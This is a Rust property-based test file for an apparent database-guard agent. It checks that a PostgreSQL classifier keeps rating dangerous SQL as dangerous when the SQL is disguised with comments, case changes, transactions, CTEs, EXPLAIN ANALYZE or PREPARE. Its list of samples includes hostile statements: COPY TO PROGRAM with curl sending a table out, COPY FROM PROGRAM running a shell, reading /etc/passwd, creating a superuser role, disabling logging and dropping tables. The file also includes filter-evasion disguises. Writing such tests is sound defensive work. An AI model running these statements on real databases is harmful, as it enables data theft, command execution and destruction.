//! Property: no statement of a dangerous class is classified as safer when it is wrapped in
//! comments, case and whitespace changes, other statements, transactions, CTEs, EXPLAIN
//! ANALYZE or PREPARE — through the fingerprint cache too.

use std::sync::LazyLock;

use dbward_agent::policy::classify::fingerprint::CachedClassifier;
use dbward_agent::policy::classify::postgres::PostgresClassifier;
use dbward_agent::policy::classify::{Class, Classifier, NoPrepared};
use proptest::prelude::*;
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::tokenizer::{Token, Tokenizer};

const DANGEROUS: &[&str] = &[
    "DELETE FROM users",
    "DELETE FROM users WHERE id > 0",
    "UPDATE users SET admin = true",
    "INSERT INTO users (id) VALUES (1)",
    "TRUNCATE users",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "DROP TABLE users",
    "CREATE TABLE t (id int)",
    "ALTER TABLE users ADD COLUMN x int",
    "CREATE INDEX i ON users (email)",
    "GRANT ALL ON users TO mallory",
    "REVOKE SELECT ON users FROM bob",
    "GRANT admin TO mallory",
    "CREATE ROLE evil SUPERUSER LOGIN",
    "ALTER ROLE bob SUPERUSER",
    "DROP ROLE bob",
    "COPY users TO STDOUT",
    "COPY users TO PROGRAM 'curl -T - http://x'",
    "COPY (SELECT * FROM users) TO '/tmp/x'",
    "COPY users FROM PROGRAM 'sh -c id'",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT * FROM dblink('h', 'q') AS t(a int)",
    "SELECT * FROM users WHERE id = (SELECT length(pg_read_file('/x')))",
    "SELECT pg_catalog.pg_read_binary_file('/x')",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_cancel_backend(pid) FROM pg_stat_activity",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "ALTER SYSTEM SET log_statement = 'none'",
    "CREATE EXTENSION dblink",
    "SELECT set_config('role', 'x', false)",
    "CHECKPOINT",
    "VACUUM FULL users",
    "DO $$ BEGIN DELETE FROM users; END $$",
    "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$",
    "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
    "EXPLAIN ANALYZE DELETE FROM users",
    "PREPARE p AS DELETE FROM users",
    "EXECUTE p",
    "SELECT * INTO copy_of_users FROM users",
];

static CACHE: LazyLock<CachedClassifier> =
    LazyLock::new(|| CachedClassifier::new(Box::new(PostgresClassifier), 1024));

/// A tiny deterministic generator driven by the proptest seed.
struct Rng(u64);

impl Rng {
    fn next(&mut self, n: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % n
    }
}

const SPACING: &[&str] = &[
    " ",
    "\n",
    "\t  ",
    " /* harmless */ ",
    " -- looks innocent\n",
    "/* nested /* comment */ */",
    "\r\n",
];

fn quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "''"))
}

/// Re-renders `sql` with random keyword case, spacing and comments between tokens.
fn disguise(sql: &str, rng: &mut Rng) -> String {
    let tokens = Tokenizer::new(&PostgreSqlDialect {}, sql)
        .tokenize()
        .expect("base statements tokenize");
    let mut out = String::new();
    for token in tokens {
        match token {
            Token::Whitespace(_) => out.push_str(SPACING[rng.next(SPACING.len() as u64) as usize]),
            Token::Word(w) if w.quote_style.is_none() => {
                for c in w.value.chars() {
                    if rng.next(2) == 0 {
                        out.extend(c.to_uppercase());
                    } else {
                        out.extend(c.to_lowercase());
                    }
                }
                if rng.next(4) == 0 {
                    out.push_str("/**/");
                }
            }
            Token::SingleQuotedString(s) => out.push_str(&quote(&s)),
            other => out.push_str(&other.to_string()),
        }
    }
    out
}

fn is_dml_or_query(sql: &str) -> bool {
    let first = sql.split_whitespace().next().unwrap_or("").to_uppercase();
    matches!(first.as_str(), "DELETE" | "UPDATE" | "INSERT" | "SELECT")
}

fn wrap(base: &str, sql: String, wrapper: u8) -> String {
    match wrapper % 7 {
        0 => format!("SELECT 1; {sql}"),
        1 => format!("{sql}; SELECT 2"),
        2 => format!("BEGIN; {sql}; COMMIT"),
        3 if is_dml_or_query(base) && !base.to_uppercase().starts_with("SELECT") => {
            format!("WITH w AS ({sql} RETURNING 1) SELECT * FROM w")
        }
        4 if is_dml_or_query(base) => format!("EXPLAIN ANALYZE {sql}"),
        5 if is_dml_or_query(base) => format!("PREPARE x AS {sql}"),
        6 => format!("/* ticket 42 */ {sql} -- done"),
        _ => format!("SELECT 'x'; {sql}"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn dangerous_statements_never_look_safer_when_disguised(
        index in 0..DANGEROUS.len(),
        seed in 1u64..u64::MAX,
        wrappers in proptest::collection::vec(any::<u8>(), 0..3),
    ) {
        let base = DANGEROUS[index];
        let original = PostgresClassifier.classify(base, &NoPrepared);
        prop_assume!(original.class > Class::Read);
        let mut rng = Rng(seed);
        let mut sql = disguise(base, &mut rng);
        for w in &wrappers {
            sql = wrap(base, sql, *w);
        }
        // Warm the cache with the plain statement first: a disguise must not be served a
        // weaker cached answer.
        CACHE.classify(base, &NoPrepared);
        for got in [PostgresClassifier.classify(&sql, &NoPrepared), (*CACHE.classify(&sql, &NoPrepared)).clone()] {
            prop_assert!(
                got.class >= original.class,
                "{base:?} is {} but disguised {sql:?} is {} ({:?})",
                original.class, got.class, got.notes
            );
            prop_assert!(
                got.classes.contains(original.class) || got.classes.contains(Class::Unknown),
                "{sql:?} lost class {}: {:?}", original.class, got.classes
            );
        }
    }
}
